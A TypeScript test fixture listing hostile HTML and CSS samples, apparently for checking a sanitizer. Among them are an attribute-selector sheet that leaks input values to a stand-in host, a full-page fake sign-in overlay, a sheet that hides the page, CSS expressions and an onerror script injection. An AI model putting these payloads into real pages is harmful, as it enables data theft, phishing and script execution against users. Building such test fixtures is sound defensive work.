import type { HostileHtml } from "./types";

// Style sheets and styles that load, hide or cover the page.

export const styles = {
  "style-background": `<p style="background:url(https://elsewhere.example/a)">Text</p>`,
  "style-background-escaped": String.raw`<p style="background:\75\72\6c(https://elsewhere.example/b)">Text</p>`,
  "style-image-set": `<p style="background-image:image-set('https://elsewhere.example/c' 1x)">Text</p>`,
  "style-list-marker": `<ul><li style="list-style-image:url('//elsewhere.example/d')">Item</li></ul>`,
  "style-cursor-and-filter": `<p style="cursor:url(https://elsewhere.example/e),auto;filter:url(https://elsewhere.example/f#g);mask-image:url(https://elsewhere.example/h)">Text</p>`,
  "style-expression": `<p style="width:expression(ran('style-expression'));behavior:url(https://elsewhere.example/i.htc);-moz-binding:url(https://elsewhere.example/j.xml#k)">Text</p>`,
  "style-covers-the-page": `<a href="https://elsewhere.example/login" style="position:fixed;inset:0;z-index:9999">Sign in again</a>`,
  "sheet-import": `<style>@import url("https://elsewhere.example/a.css");</style><p>Text</p>`,
  "sheet-import-without-url": `<style>@import "https://elsewhere.example/b.css" screen;</style>`,
  "sheet-font": `<style>@font-face{font-family:lent;src:url(https://elsewhere.example/c.woff2)}p{font-family:lent}</style><p>Text</p>`,
  "sheet-hides-the-page": `<style>body{display:none!important}</style><p>Text</p>`,
  "sheet-reads-fields": `<style>input[value^="a"]{background:url(https://elsewhere.example/starts-with-a)}</style><input value="asha" type="hidden"><input value="asha">`,
  "sheet-content": `<style>p::before{content:url(https://elsewhere.example/d)}</style><p>Text</p>`,
  "sheet-never-closed": `<p>Text</p><style>*{background:url(https://elsewhere.example/e)}`,
  "sheet-closed-in-a-string": `<style>p{content:"</style><img src=nowhere onerror=ran\`sheet-closed-in-a-string\`>"}</style>`,
  "sheet-of-script-type": `<style type="text/javascript">alert("sheet-of-script-type")</style>`,
  "sheet-with-namespace": `<style>@namespace other "urn:other"; other|p { color: red }</style><p>Text</p>`,
  "sheet-in-a-comment": `<!--<style>--><style>@import "https://elsewhere.example/f.css"</style><!--</style>-->`,
  "class-of-the-page": `<p class="skip-link">Skip to content</p><div class="mantine-Modal-overlay" style="position:fixed;inset:0">Text</div>`,
  "background-attributes": `<table background="https://elsewhere.example/g"><tr><td background="https://elsewhere.example/h">Cell</table><body background="https://elsewhere.example/i">`,
} satisfies HostileHtml;
